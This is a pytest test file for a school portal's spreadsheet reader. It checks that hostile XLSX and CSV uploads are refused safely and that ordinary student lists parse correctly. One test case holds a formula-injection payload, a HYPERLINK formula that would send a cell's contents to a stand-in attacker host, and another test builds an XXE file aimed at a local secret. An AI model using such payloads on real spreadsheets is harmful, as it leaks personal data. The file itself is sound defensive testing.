"""read_sheet: hostile files are refused with the right code in bounded memory; normal files
come back as rows where rijen[i] is spreadsheet row i+1 and column j is letter j."""
import datetime
import io
import tracemalloc
import zipfile

import openpyxl
import pytest
from openpyxl.workbook.defined_name import DefinedName

from portal.lijsten.reader import (
    FORMULE_ZONDER_WAARDE, Bestandsfout, Foutwaarde, Limieten, assert_defusedxml, kolomindex,
    kolomletter, read_sheet,
)
from tests import hostile

MAX_PEAK = 50 * 1024 * 1024


def refused(data: bytes, limieten: Limieten = Limieten()) -> Bestandsfout:
    """The Bestandsfout read_sheet raises for `data`, asserting the Python heap stayed bounded.
    (tracemalloc sees Python allocations; the hostile files must be refused before calamine's
    Rust code runs, which the dimension tests check separately.)"""
    tracemalloc.start()
    try:
        with pytest.raises(Bestandsfout) as exc:
            read_sheet(data, limieten)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < MAX_PEAK, f"peak {peak / 1e6:.1f} MB"
    return exc.value


@pytest.mark.parametrize("naam", sorted(hostile.HOSTILE))
def test_hostile_file_is_refused_with_its_code(naam):
    maak, code = hostile.HOSTILE[naam]
    data = maak()
    assert refused(data).code == code


def test_xxe_never_reads_the_local_file(tmp_path):
    geheim = tmp_path / "geheim.txt"
    geheim.write_text("GEHEIM-12345")
    fout = refused(hostile.xxe(str(geheim)))
    assert fout.code == "file_unsafe"
    assert "GEHEIM" not in repr(fout.params)


def test_unsupported_type_is_named_so_the_message_can_say_save_as_xlsx():
    assert refused(hostile.pdf()).params == {"soort": "pdf"}


def test_lying_zip_is_caught_by_our_bounded_inflate_not_by_the_ratio_check():
    # The member declares 1000 bytes: the ratio and total-size checks see nothing wrong.
    data = hostile.lying_sizes()
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo("xl/sharedStrings.xml")
    assert info.file_size == 1000
    assert refused(data).code == "file_unsafe"


def test_limits_are_configurable():
    data = hostile.xlsx()
    assert refused(data, Limieten(max_bytes=100)).code == "file_too_large"
    assert refused(data, Limieten(max_members=3)).code == "file_unsafe"
    assert refused(data, Limieten(max_unpacked_bytes=500)).code == "file_unsafe"


def test_too_large_names_the_limit_in_mb():
    fout = refused(b"x" * (2 * 1024 * 1024 + 1), Limieten(max_bytes=2 * 1024 * 1024))
    assert (fout.code, fout.params) == ("file_too_large", {"max": 2})


def test_garbage_bytes_are_an_answer_not_a_traceback():
    for data in [b"PK\x03\x04" + b"\xff" * 100, b"\xd0\xcf\x11\xe0", b"\x00" * 50, bytes(range(256)) * 4]:
        assert refused(data).code in {"file_corrupt", "file_type_unsupported", "file_type_xls"}


def test_every_truncation_of_a_workbook_is_answered():
    data = _openpyxl_bytes(_simple_wb())
    for cut in range(0, len(data), max(1, len(data) // 60)):
        try:
            read_sheet(data[:cut])
        except Bestandsfout as fout:
            assert fout.code in {"file_corrupt", "file_empty", "file_type_unsupported"}


def test_assert_defusedxml_passes_when_installed():
    assert_defusedxml()


# --- normal workbooks ----------------------------------------------------

def _simple_wb():
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Leerlingen"
    ws.append(["Leerlingnummer", "Geboortedatum", "Leerjaar"])
    ws.append(["00123", datetime.date(2010, 5, 3), 4])
    return wb


def _openpyxl_bytes(wb) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_values_types_and_positions():
    wb = _simple_wb()
    ws = wb.active
    ws["E3"] = 5.5
    ws["F3"] = True
    ws["G3"] = datetime.datetime(2010, 5, 3, 10, 30)
    ws["H3"] = "0123"
    sheet = read_sheet(_openpyxl_bytes(wb))
    assert sheet.soort == "xlsx" and sheet.naam == "Leerlingen"
    assert sheet.rijen[0] == ["Leerlingnummer", "Geboortedatum", "Leerjaar", None, None, None, None, None]
    assert sheet.rijen[1][:3] == ["00123", datetime.date(2010, 5, 3), 4]
    assert type(sheet.rijen[1][2]) is int
    assert sheet.rijen[2][4:] == [5.5, True, datetime.datetime(2010, 5, 3, 10, 30), "0123"]


def test_rows_and_columns_start_at_a1_even_when_the_data_does_not():
    wb = openpyxl.Workbook()
    ws = wb.active
    ws["C4"] = "x"
    ws["D6"] = "y"
    sheet = read_sheet(_openpyxl_bytes(wb))
    assert len(sheet.rijen) == 6
    assert sheet.rijen[3][2] == "x"      # C4
    assert sheet.rijen[5][3] == "y"      # D6
    assert all(len(r) == 4 for r in sheet.rijen)


def test_trailing_empty_rows_are_trimmed():
    wb = _simple_wb()
    wb.active["A10"] = "   "
    assert len(read_sheet(_openpyxl_bytes(wb)).rijen) == 2


def test_1904_date_system():
    xml = hostile.sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>Geboortedatum</t></is></c></row>'
                            '<row r="2"><c r="A2" s="1"><v>40000</v></c></row>')
    styles = (f'<?xml version="1.0"?><styleSheet xmlns="{hostile.MAIN_NS}"><numFmts count="0"/>'
              '<fonts count="1"><font/></fonts><fills count="1"><fill/></fills><borders count="1"><border/></borders>'
              '<cellStyleXfs count="1"><xf/></cellStyleXfs><cellXfs count="2"><xf/><xf numFmtId="14" applyNumberFormat="1"/>'
              '</cellXfs></styleSheet>')
    data_1904 = hostile.xlsx({"Leerlingen": xml}, workbook_pr='<workbookPr date1904="1"/>',
                             extra={"xl/styles.xml": styles.encode()})
    data_1900 = hostile.xlsx({"Leerlingen": xml}, extra={"xl/styles.xml": styles.encode()})
    assert read_sheet(data_1904).rijen[1][0] == datetime.date(2013, 7, 7)   # 40000 days after 1904-01-01
    assert read_sheet(data_1900).rijen[1][0] == datetime.date(2009, 7, 6)


def test_error_values_are_read_as_error_values():
    xml = hostile.sheet_xml(hostile.rows({
        1: {"A": "BSN", "B": "Klas"},
        2: {"A": ("e", "#N/A"), "B": "4A"},
        3: {"A": ("e", "#REF!"), "B": "4B"},
    }))
    rijen = read_sheet(hostile.xlsx({"Leerlingen": xml})).rijen
    assert rijen[1] == [Foutwaarde("#N/A"), "4A"]
    assert rijen[2] == [Foutwaarde("#REF!"), "4B"]


def _bericht(fout) -> str:
    from portal.lijsten.errors import Bevinding
    return Bevinding(fout.code, params=dict(fout.params)).bericht


@pytest.mark.parametrize("formule", [
    '<f>HYPERLINK("http://evil.example/?x="&amp;B2,"mevr. De Vries")</f><v>mevr. De Vries</v>',   # cached value
    "<f>VLOOKUP(A2,X!A:B,2,0)</f>",                                                                 # none
    '<f t="shared" si="0"/><v>2</v>',                                                                # shared
])
def test_a_formula_cell_is_named_by_its_cell_and_refuses_the_list(formule):
    from portal.lijsten.formats import FORMATS
    from portal.lijsten.validate import check_bytes
    fmt = FORMATS["VO-overstapper"]
    mentor = fmt.titels.index("Mentor")
    titels = "".join(f'<c r="{kolomletter(j)}1" t="inlineStr"><is><t>{t}</t></is></c>' for j, t in enumerate(fmt.titels))
    xml = hostile.sheet_xml(f'<row r="1">{titels}</row><row r="2"><c r="A2" t="inlineStr"><is><t>L1</t></is></c>'
                            f'<c r="{kolomletter(mentor)}2" t="str">{formule}</c></row>')
    data = hostile.xlsx({"Leerlingen": xml})
    assert read_sheet(data).rijen[1][mentor] is FORMULE_ZONDER_WAARDE
    resultaat = check_bytes(data, fmt)
    [b] = [b for b in resultaat.fouten if b.code == "formula_without_value"]
    assert (b.rij, b.kolom, b.cel) == (2, "Mentor", f"{kolomletter(mentor)}2")
    assert b.bericht.startswith("Mentor bevat een formule (rij 2); een leerlinglijst mag alleen waarden bevatten.")
    assert not resultaat.ok


def test_formulas_among_the_titles_refuse_the_file_naming_the_cells():
    grid = {1: {"A": "Klas", **{kolomletter(j): ("f", "1+1") for j in range(1, 8)}}, 2: {"A": "4B"}}
    fout = refused(hostile.xlsx({"Leerlingen": hostile.sheet_xml(hostile.rows(grid))}))
    assert (fout.code, fout.params["soort"]) == ("formula_without_value", "formule_titel")
    assert fout.params["cellen"] == "B1, C1, D1, E1, F1 en nog 2 andere"
    assert _bericht(fout).startswith("Het bestand wordt niet gelezen: de kolomtitels bevatten formules, in cel B1")


def test_merged_hidden_rows_and_marker():
    wb = _simple_wb()
    ws = wb.active
    ws.append(["a", "b", "c"])
    ws.merge_cells("A3:C3")
    ws.row_dimensions[2].hidden = True
    wb.defined_names["LEERLINGLIJST_FORMAT"] = DefinedName("LEERLINGLIJST_FORMAT", attr_text='"VO-overstapper;1"')
    sheet = read_sheet(_openpyxl_bytes(wb))
    assert sheet.merged == ["A3:C3"]
    assert sheet.hidden_rows == {2}
    assert sheet.marker == ("VO-overstapper", 1)


def test_no_marker_is_none():
    assert read_sheet(_openpyxl_bytes(_simple_wb())).marker is None


def test_sheet_choice():
    een = hostile.sheet_xml(hostile.rows({1: {"A": "x"}}))
    leeg = hostile.sheet_xml("")
    # Leerlingen wins even when other sheets have content.
    s = read_sheet(hostile.xlsx({"Toelichting": een, "Leerlingen": hostile.sheet_xml(hostile.rows({1: {"A": "y"}}))}))
    assert s.naam == "Leerlingen" and s.rijen == [["y"]]
    # Otherwise the only sheet with content.
    s = read_sheet(hostile.xlsx({"Blad1": leeg, "Blad2": een, "Blad3": leeg}))
    assert s.naam == "Blad2"
    # Several with content: the error names them.
    fout = refused(hostile.xlsx({"Blad1": een, "Blad2": een}))
    assert (fout.code, fout.params) == ("multiple_sheets", {"bladen": "Blad1, Blad2"})
    # None with content.
    assert refused(hostile.xlsx({"Blad1": leeg})).code == "file_empty"


def test_too_many_rows_names_the_count():
    grid = {r: {"A": str(r)} for r in range(1, 13)}
    fout = refused(hostile.xlsx({"Leerlingen": hostile.sheet_xml(hostile.rows(grid))}), Limieten(max_rows=10))
    assert (fout.code, fout.params) == ("too_many_rows", {"aantal": 11, "max": 10})
    fout = refused(("\n".join(["t"] + ["x"] * 11)).encode(), Limieten(max_rows=10))
    assert (fout.code, fout.params) == ("too_many_rows", {"aantal": 11, "max": 10})


def test_namespace_prefixed_sheet():
    xml = ('<?xml version="1.0"?><x:worksheet xmlns:x="' + hostile.MAIN_NS + '"><x:sheetData>'
           '<x:row r="2"><x:c r="B2" t="e"><x:v>#DIV/0!</x:v></x:c><x:c r="C2" t="inlineStr"><x:is><x:t>z</x:t></x:is></x:c>'
           '</x:row></x:sheetData></x:worksheet>')
    rijen = read_sheet(hostile.xlsx({"Leerlingen": xml})).rijen
    assert rijen[1] == [None, Foutwaarde("#DIV/0!"), "z"]


# --- CSV ---------------------------------------------------------------

@pytest.mark.parametrize("sep", [";", ",", "\t"])
def test_csv_separators(sep):
    tekst = sep.join(["Leerlingnummer", "Achternaam", "Klas"]) + "\r\n" + sep.join(["001", "Berg", "4B"]) + "\r\n"
    sheet = read_sheet(tekst.encode())
    assert sheet.soort == "csv"
    assert sheet.rijen == [["Leerlingnummer", "Achternaam", "Klas"], ["001", "Berg", "4B"]]


def test_csv_utf8_bom_and_windows_1252():
    tekst = "Voornaam;Achternaam\nRenée;Ëlsink\n"
    assert read_sheet(b"\xef\xbb\xbf" + tekst.encode("utf-8")).rijen == [["Voornaam", "Achternaam"], ["Renée", "Ëlsink"]]
    assert read_sheet(tekst.encode("cp1252")).rijen == [["Voornaam", "Achternaam"], ["Renée", "Ëlsink"]]


def test_csv_quoted_fields_with_separators_and_newlines():
    tekst = 'Achternaam,Woonplaats,Mentor\n"Berg, van den","Den\nHaag","zegt ""hoi"""\n'
    assert read_sheet(tekst.encode()).rijen[1] == ["Berg, van den", "Den\nHaag", 'zegt "hoi"']


def test_csv_line_breaks_of_a_lone_cr_are_line_breaks():
    """Old Mac exports end lines with CR alone; polars does not, the csv module does (and a CRLF
    file with a CR inside a quoted cell keeps it there)."""
    assert read_sheet(b"Leerlingnummer;Achternaam\rL1;Berg\rL2;Jansen\r").rijen == [
        ["Leerlingnummer", "Achternaam"], ["L1", "Berg"], ["L2", "Jansen"]]
    assert read_sheet(b'Leerlingnummer;Mentor\r\nL1;"De\rVries"\r\n').rijen == [
        ["Leerlingnummer", "Mentor"], ["L1", "De\rVries"]]


def test_csv_empty_cells_are_none_and_rows_padded():
    sheet = read_sheet(b"a;b;c\n1;;\n2\n\n\n")
    assert sheet.rijen == [["a", "b", "c"], ["1", None, None], ["2", None, None]]


def test_csv_without_content_is_empty():
    assert refused(b";;;\r\n;;\r\n").code == "file_empty"
    assert refused(b"\xef\xbb\xbf").code == "file_empty"


def test_csv_utf16_excel_unicode_text():
    tekst = "Voornaam\tAchternaam\r\nJan\tBerg\r\n"
    assert read_sheet(b"\xff\xfe" + tekst.encode("utf-16-le")).rijen == [["Voornaam", "Achternaam"], ["Jan", "Berg"]]


def test_html_page_is_not_read_as_csv():
    assert refused(b"<html><body><table><tr><td>x</td></tr></table></body></html>").code == "file_type_unsupported"


def test_kolomletter_roundtrip():
    assert [kolomletter(i) for i in (0, 25, 26, 701, 702, 16383)] == ["A", "Z", "AA", "ZZ", "AAA", "XFD"]
    assert all(kolomindex(kolomletter(i)) == i for i in range(0, 20000, 7))


# --- the cell length limit (Limieten.max_cell_chars, 32,767 like Excel) ---------------------------------
def _csv_met_cel(tekst: str, quote: bool = False) -> bytes:
    cel = f'"{tekst}"' if quote else tekst
    return f"Leerlingnummer;Achternaam\r\nL1;{cel}\r\nL2;Jansen\r\n".encode()


def _xlsx_met_cel(tekst: str) -> bytes:
    """(openpyxl cuts a cell at 32,767 characters, as Excel does: a longer one is put in by hand.)"""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["Leerlingnummer", "Achternaam"])
    ws.append(["L1", "PLEK"])
    buf = io.BytesIO()
    wb.save(buf)
    uit = io.BytesIO()
    with zipfile.ZipFile(buf) as zin, zipfile.ZipFile(uit, "w", zipfile.ZIP_DEFLATED) as zuit:
        for item in zin.infolist():
            zuit.writestr(item, zin.read(item.filename).replace(b"PLEK", tekst.encode()))
    return uit.getvalue()


@pytest.mark.parametrize("maak", [_csv_met_cel, lambda t: _csv_met_cel(t, quote=True), _xlsx_met_cel])
@pytest.mark.parametrize("lengte", [32_768, 200_000])
def test_a_cell_longer_than_excel_allows_refuses_the_file_with_its_own_message(maak, lengte):
    fout = refused(maak("x" * lengte))
    assert (fout.code, fout.params["soort"]) == ("file_corrupt", "cel_te_lang")
    from portal.lijsten.errors import Bevinding
    assert "meer dan 32.767 tekens" in Bevinding(fout.code, params=dict(fout.params)).bericht
    assert fout.params["cel"] == "B2"          # where it is, to find and shorten it
    assert Bevinding(fout.code, params=dict(fout.params)).bericht.startswith(
        "Het bestand wordt niet gelezen: cel B2 bevat meer dan 32.767 tekens")


@pytest.mark.parametrize("maak", [_csv_met_cel, _xlsx_met_cel])
def test_a_cell_as_long_as_excel_allows_is_read(maak):
    sheet = read_sheet(maak("x" * 32_767))
    assert sheet.rijen[1][1] == "x" * 32_767


def test_the_cell_length_limit_is_configurable():
    data = _csv_met_cel("x" * 21)
    assert refused(data, Limieten(max_cell_chars=20)).params["soort"] == "cel_te_lang"
    assert read_sheet(data, Limieten(max_cell_chars=21)).rijen[1][1] == "x" * 21
    assert refused(_xlsx_met_cel("x" * 21), Limieten(max_cell_chars=20)).params["soort"] == "cel_te_lang"
    assert read_sheet(_xlsx_met_cel("x" * 21), Limieten(max_cell_chars=21)).rijen[1][1] == "x" * 21


def test_a_field_over_the_csv_modules_field_limit_is_named_by_its_cell():
    fout = refused(_csv_met_cel("x" * 200_000))
    assert (fout.code, fout.params["soort"], fout.params["cel"]) == ("file_corrupt", "cel_te_lang", "B2")


# --- a stray cell far away (#11.8) ------------------------------------------------------------------
@pytest.mark.parametrize("maak, cel", [(hostile.far_cell, "XFD1048576"), (hostile.far_cell_in_first_row, "A1048576")])
def test_a_stray_cell_far_away_is_named_with_what_to_do(maak, cel):
    fout = refused(maak())
    assert (fout.code, fout.params["soort"], fout.params["cel"]) == ("file_corrupt", "verre_cel", cel)
    bericht = _bericht(fout)
    assert f"in cel {cel}" in bericht and "Verwijder die cel" in bericht
    assert "beschadigd" not in bericht


# --- work bounded by cells (#10.2) -----------------------------------------------------------------
def test_a_sheet_with_more_cells_than_allowed_is_refused_before_it_is_read():
    grid = {r: {kolomletter(j): r * j for j in range(10)} for r in range(1, 21)}      # 200 cells
    data = hostile.xlsx({"Leerlingen": hostile.sheet_xml(hostile.rows(grid))})
    fout = refused(data, Limieten(max_cells=199))
    assert (fout.code, fout.params["soort"]) == ("file_too_large", "te_veel_cellen")
    assert "meer dan 199 cellen" in _bericht(fout)
    assert len(read_sheet(data, Limieten(max_cells=200)).rijen) == 20


def test_a_sheet_larger_than_allowed_unpacked_is_refused_by_its_declared_size():
    data = hostile.xlsx()
    fout = refused(data, Limieten(max_sheet_bytes=100))
    assert (fout.code, fout.params["soort"]) == ("file_too_large", "te_veel_cellen")


def test_the_many_cell_workbook_is_refused_quickly_in_bounded_memory(tmp_path):
    """F-2: 42,000 rows × 200 numbers in about 20 MB. Refused with its code, the process growing
    far less than 500 MB (measured in a child process: calamine's memory is not Python's)."""
    import json, subprocess, sys
    pad = tmp_path / "veel_cellen.xlsx"
    pad.write_bytes(hostile.many_cells())
    assert pad.stat().st_size < Limieten().max_bytes
    script = (
        "import json, resource, sys, time\n"
        "from portal.lijsten.reader import read_sheet, Bestandsfout\n"
        "data = open(sys.argv[1], 'rb').read()\n"
        "voor = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "t = time.perf_counter()\n"
        "try:\n    read_sheet(data); code = None\n"
        "except Bestandsfout as e:\n    code = [e.code, e.params.get('soort')]\n"
        "print(json.dumps({'code': code, 'seconden': time.perf_counter() - t,\n"
        "    'groei_mb': (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - voor) / 1024}))\n")
    uit = subprocess.run([sys.executable, "-c", script, str(pad)], capture_output=True, text=True, check=True)
    meting = json.loads(uit.stdout)
    assert meting["code"] == ["file_too_large", "te_veel_cellen"]
    assert meting["groei_mb"] < 500, meting


# --- fastexcel's columns and python-calamine's cells agree --------------------------------------------
def test_a_plain_sheet_read_through_fastexcel_equals_python_calamines_cells():
    from portal.lijsten import reader
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Leerlingen"
    ws.append(["Leerlingnummer", "Geboortedatum", "Leerjaar", "Mentor", "Actief", "Tijd", None, "Leeg"])
    for i in range(30):
        ws.append([f"L{i:03d}", datetime.date(2010, 1, 1 + i % 28), i % 6 + 1, None if i % 3 else "mevr. X",
                   bool(i % 2), datetime.datetime(2010, 5, 3, 10, i), None, None])
    data = _openpyxl_bytes(wb)
    snel, langste = reader._fastexcel_kolommen(data, "Leerlingen")
    assert langste == len("Leerlingnummer")
    cellen = reader._normalise(reader._calamine(data, "Leerlingen"))
    assert reader._normalise(zip(*snel)) == [r[:len(snel)] for r in cellen]


@pytest.mark.parametrize("waarde", [5, 5.5, datetime.date(2010, 5, 3), True])
def test_a_column_of_text_with_one_other_value_keeps_each_cell_as_typed(waarde):
    wb = _simple_wb()
    wb.active.append(["L2", "3-5-2010", waarde])
    wb.active.append(["L3", waarde, "4"])
    rijen = read_sheet(_openpyxl_bytes(wb)).rijen
    assert rijen[2][1:] == ["3-5-2010", int(waarde) if type(waarde) is int else waarde]
    assert rijen[3][1:] == [waarde if type(waarde) is not int else waarde, "4"]


def test_a_sheet_that_starts_below_a1_keeps_its_positions_through_either_reader():
    wb = openpyxl.Workbook()
    ws = wb.active
    ws["B2"], ws["C2"], ws["B3"], ws["C3"] = "Leerlingnummer", "Klas", "L1", "4B"
    assert read_sheet(_openpyxl_bytes(wb)).rijen == [[None, None, None], [None, "Leerlingnummer", "Klas"],
                                                       [None, "L1", "4B"]]
